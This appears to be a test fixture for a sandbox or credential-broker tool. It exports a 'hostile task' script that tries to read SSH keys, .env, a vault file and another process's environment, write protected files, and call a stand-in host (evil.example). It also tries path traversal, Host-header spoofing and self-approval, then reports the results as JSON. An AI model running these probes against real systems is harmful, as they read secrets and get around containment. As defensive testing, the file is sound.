/** A task that tries what it must not do, and prints what came of it: one JSON object. Runs inside, without imports. */
export const hostileTask = `
const fs = require('node:fs'), net = require('node:net'), http = require('node:http'), tls = require('node:tls');
const { spawnSync } = require('node:child_process');
const { URL: url, ACME: placeholder, SERVICE_PORT: port, BROKER: broker, VICTIM: home, PROGRAM: program } = process.env;
const results = {};
const attempt = (name, work) => { try { results[name] = work(); } catch (error) { results[name] = error.code ?? String(error); } };
const read = (path) => fs.readFileSync(path, 'utf8') || 'empty';
const wait = async (name, work) => { try { results[name] = await work(); } catch (error) { results[name] = 'E' + (error.code ?? error.message); } };
const reach = (host, at) => new Promise((resolve, reject) => {
  const socket = net.connect({ host, port: at, timeout: 1500 }, () => { socket.destroy(); resolve('connected'); });
  socket.once('error', reject);
  socket.once('timeout', () => { socket.destroy(); reject(new Error('TIMEOUT')); });
});
const call = async (target, options = {}) => {
  const answer = await fetch(target, { ...options, headers: { authorization: 'Bearer ' + placeholder, ...options.headers } });
  const text = await answer.text();
  return answer.status === 200 ? '200' : answer.status + ' ' + JSON.parse(text).error.code;
};
/** A call as no client writes it: the request line and the headers as given. */
const raw = (lines) => new Promise((resolve, reject) => {
  const proxy = new URL(process.env.HTTPS_PROXY);
  const asking = http.request({ host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: 'localhost:' + port });
  asking.once('error', reject);
  asking.once('connect', (_, socket) => {
    const secured = tls.connect({ socket, servername: 'localhost', ca: fs.readFileSync(process.env.SSL_CERT_FILE) }, () => secured.write(lines.join('\\r\\n') + '\\r\\n\\r\\n'));
    let text = '';
    secured.on('data', (chunk) => { text += chunk; });
    secured.once('error', reject);
    secured.once('close', () => resolve((/ (\\d{3})/.exec(text)?.[1] ?? '') + ' ' + (/valet-key-refused: (\\S+)/i.exec(text)?.[1] ?? text.slice(0, 80))));
  });
  asking.end();
});
(async () => {
  attempt('readSource', () => read('src/a.txt'));
  attempt('readEnv', () => read('.env'));
  attempt('readPrivate', () => read('private/a'));
  attempt('readSsh', () => read(home + '/.ssh/id_ed25519'));
  attempt('readVault', () => read(home + '/valet-key/vault.json'));
  attempt('readSibling', () => read('../sibling/secret.txt'));
  attempt('readBroker', () => read('/proc/' + broker + '/environ'));
  attempt('processes', () => fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name)).some((pid) => { try { return read('/proc/' + pid + '/cmdline').includes('cli.mjs'); } catch { return false; } }) ? 'sees the broker' : 'no broker');
  attempt('environment', () => placeholder.startsWith('placeholder-') ? 'placeholder' : 'something else');
  attempt('variable', () => process.env.NOT_LISTED ?? 'none');
  attempt('writeOut', () => { fs.writeFileSync('out/a', 'x'); return 'done'; });
  attempt('writeSource', () => { fs.writeFileSync('src/a.txt', 'x'); return 'done'; });
  attempt('writeManifest', () => { fs.writeFileSync('valet-key.json', '{}'); return 'done'; });
  await wait('call', () => call(url));
  await wait('rawSocket', () => reach('127.0.0.1', port));
  await wait('rawSocket6', () => reach('::1', port));
  await wait('otherAddress', () => reach('192.0.2.1', 80));
  await wait('otherHost', () => call('https://evil.example/'));
  await wait('otherHostByAddress', () => call('https://192.0.2.1/'));
  await wait('otherPath', () => call(url.replace('orders', 'refunds')));
  await wait('dotPath', () => raw(['GET /v1/orders/../refunds HTTP/1.1', 'Host: localhost:' + port, 'Authorization: Bearer ' + placeholder]));
  await wait('hostHeader', () => raw(['GET /v1/orders HTTP/1.1', 'Host: evil.example', 'Authorization: Bearer ' + placeholder]));
  await wait('inBody', () => call(url, { method: 'POST', body: placeholder }));
  attempt('approveItself', () => spawnSync(process.execPath, [program, 'run', '--', 'true'], { timeout: 8000 }).status === 0 ? 'approved' : 'refused');
  console.log(JSON.stringify(results));
  process.exit();
})();
`;
